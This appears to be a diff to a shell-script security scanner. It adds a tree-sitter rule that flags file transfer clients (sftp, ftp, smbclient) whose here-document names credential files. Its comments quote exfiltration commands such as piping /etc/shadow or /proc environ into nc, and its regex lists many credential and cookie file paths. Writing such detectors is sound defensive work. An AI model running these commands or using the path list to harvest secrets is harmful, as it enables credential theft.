@@ -378,6 +378,17 @@
  (#set! severity "high")
  (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
 
+; sftp -b - h <<EOF ... put ~/.aws/credentials ... EOF (ftp, lftp,
+; smbclient): a file transfer client's commands, read from a here-document,
+; that name a credential file (the text as written: a line there often
+; holds a $(...) that does not fold)
+((redirected_statement body: (command) @w (heredoc_redirect (heredoc_body) @finding))
+ (#resolves-to? @w "sftp|ftp|lftp|smbclient|ncftp|tnftp|pftp|tftp")
+ (#match? @finding "(^|[/\\s=:])\\.ssh(?![\\w.-])(?!/+(known_hosts2?|config)(?![\\w.-]))|(^|[/\\s=:])\\.aws(?![\\w.-])|(^|[/\\s=:])etc/(g?shadow|sudoers|master\\.passwd)(?![\\w.-])|(^|[/\\s=:@])\\.(netrc|pgpass|git-credentials|npmrc|pypirc|config/(containers/auth\\.json|git/credentials|doctl/config\\.yaml|configstore/firebase-tools\\.json|hub|op|rclone)|cache/huggingface/(token|stored_tokens)|kaggle/kaggle\\.json|m2/settings(-security)?\\.xml|gradle/gradle\\.properties|oci/config|fly/config\\.yml|codex/auth\\.json|claude/\\.credentials\\.json|s3cfg|boto)(?![\\w.-])|\\.docker/config\\.json|\\.kube/config|(^|[/\\s=:])\\.gnupg(?![\\w.-])|/proc/[^/\\s]+/(task/[^/\\s]+/)?environ|^/environ$|\\.config/gh/hosts\\.yml|(^|[/\\s=:])\\.(bash|zsh)_history(?![\\w.-])|(^|[/\\s=:])id_(rsa|dsa|ecdsa|ed25519)(\\.pub)?(?![\\w.-])|\\.config/gcloud|(^|[/\\s=:])\\.azure(?![\\w.-])|/var/run/secrets|/run/secrets|\\.mozilla/firefox|\\.config/(google-chrome|chromium|BraveSoftware|microsoft-edge|vivaldi|opera)/.*(Cookies|Web Data)(?![\\w.-])|(^|[/\\s=:])(cookies\\.sqlite|logins\\.json|key[34]\\.db|Login Data)(?![\\w.-])|\\.local/share/keyrings|Library/Keychains|(^|[/\\s=:])\\.password-store(?![\\w.-])")
+ (#set! id "sh-credentials")
+ (#set! severity "high")
+ (#set! message "names a file that holds credentials (SSH or cloud keys, passwords, tokens)"))
+
 ; cd /etc && cat shadow, (cd ~/.kube; curl -T config ...), cd /etc; cat
 ; shadow | nc h p, cd /proc/self; nc h p < environ, cd ~/.kube, a message
 ; and a counter, then gzip -c config | nc h p; cd ~/.config, then
